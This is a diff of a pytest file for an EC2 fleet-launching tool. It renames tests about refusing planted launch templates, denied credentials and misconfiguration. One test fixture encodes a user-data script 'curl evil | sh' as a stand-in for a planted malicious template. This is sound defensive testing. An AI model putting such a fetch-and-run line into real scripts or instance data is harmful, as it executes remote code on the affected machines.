@@ -55,7 +55,7 @@ async def planted(pool: Pool, ec2: Any, **data: Any) -> str:
     return str(name)
 
 
-async def test_nothing_is_launched_from_a_template_that_somebody_planted(cloud: Control) -> None:
+async def test_nothing_is_launched_from_a_template_that_another_principal_planted(cloud: Control) -> None:
     async with a_pool(cloud) as pool, client_of(cloud) as ec2:
         await pool.process().create_fleet(a_plan())
         script = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()
@@ -78,7 +78,7 @@ async def test_a_process_that_compared_a_template_is_not_given_another_under_its
 
 
 @pytest.mark.parametrize("action", ["DescribeLaunchTemplateVersions", "CreateFleet"])
-async def test_who_may_not_launch_is_told_how_to_get_machines_all_the_same(cloud: Control, action: str) -> None:
+async def test_credentials_that_may_not_launch_get_a_remedy_that_names_other_ways(cloud: Control, action: str) -> None:
     async with a_pool(cloud) as pool:
         await pool.process().create_fleet(a_plan())
         cloud.deny(f"ec2:{action}")
@@ -87,7 +87,7 @@ async def test_who_may_not_launch_is_told_how_to_get_machines_all_the_same(cloud
             await pool.process().create_fleet(a_plan())
         for way in ("idle-target", "bullpen serve", "bullpen iam-policy workflow --launch"):
             assert way in denial.value.remedy
-        # Who may not look at a template is not allowed to launch from it, and does not try.
+        # Credentials that may not look at a template may not launch from it, so no launch is tried.
         assert cloud.calls()["CreateFleet"] == fleets + (action == "CreateFleet")
 
 
@@ -144,7 +144,7 @@ async def test_the_same_token_for_something_else_is_refused(cloud: Control) -> N
             await pool.process().create_fleet(a_plan(client_token=plan.client_token, count=2))
 
 
-async def test_a_missing_template_that_is_not_ours_to_make_is_a_matter_of_configuration(cloud: Control) -> None:
+async def test_a_missing_template_that_another_tool_must_create_is_a_config_error(cloud: Control) -> None:
     async with a_pool(cloud, manage="external") as pool:
         with pytest.raises(ConfigError, match=r"CreateFleet: .*no launch template ci-pool-") as refusal:
             await pool.process().create_fleet(a_plan())
@@ -261,7 +261,7 @@ async def test_two_subnets_of_one_zone_are_explained(cloud: Control) -> None:
         assert "one subnet for each availability zone" in refusal.value.remedy
 
 
-async def test_sightings_are_ours_on_all_pages_with_provision_and_life(
+async def test_sightings_are_those_of_the_pool_on_all_pages_with_provision_and_state(
     cloud: Control, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(module, "PAGE", 5)
